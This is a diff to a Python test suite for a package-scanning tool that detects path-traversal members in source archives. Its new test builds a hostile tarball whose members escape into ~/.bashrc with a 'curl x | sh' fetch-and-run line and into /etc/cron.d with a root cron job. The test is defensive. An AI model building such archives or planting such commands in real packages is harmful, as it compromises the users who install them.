@@ -172,7 +172,10 @@ def test_unsafe_members_and_oversized_code_make_the_result_incomplete() -> None:
         "'../evil.py' not analyzed: path traversal (..)",
         "demo/big.py not analyzed: larger than the 1000 byte file limit",
     )
-    assert result.findings == ()
+    # The traversal itself is a finding; the oversized file is only a gap.
+    assert [(f.type, f.api, f.file) for f in result.findings] == [
+        (AlertType.UNSAFE_ARCHIVE, "archive:path-traversal", "../evil.py")
+    ]
 
 
 def test_analysis_is_picklable_for_worker_processes() -> None:
@@ -225,3 +228,27 @@ def test_any_layout_analyzes_without_crashing(files: dict[str, str | bytes], whe
         result = analyze(build_sdist("demo", "1.0", files), "demo-1.0.tar.gz")
     assert result.files_analyzed <= result.files_total
     assert all(f.artifact == result.artifact for f in result.findings)
+
+
+def test_hostile_members_raise_an_unsafe_archive_alert() -> None:
+    from bot.analysis.artifact import analyze_artifact
+    from bot.analysis.python_code import analyze_python
+    from bot.model import AlertType
+    from tests.analysis.builders import TarEntry, raw_tar
+
+    data = raw_tar(
+        [
+            TarEntry(name="evil-1.0/setup.py", data=b"from setuptools import setup\nsetup()\n"),
+            TarEntry(name="evil-1.0/../../home/user/.bashrc", data=b"curl x | sh\n"),
+            TarEntry(name="evil-1.0/../../etc/cron.d/x", data=b"* * * * * root sh\n"),
+        ]
+    )
+    result = analyze_artifact(data, "evil-1.0.tar.gz", python_analyzer=analyze_python)
+    unsafe = [f for f in result.findings if f.type is AlertType.UNSAFE_ARCHIVE]
+    assert [(f.api, f.file) for f in unsafe] == [
+        ("archive:path-traversal", "evil-1.0/../../home/user/.bashrc")
+    ]
+    assert unsafe[0].reason == (
+        "The archive has a member an installer could be tricked with "
+        "(path traversal (..)); capdiff skipped it."
+    )
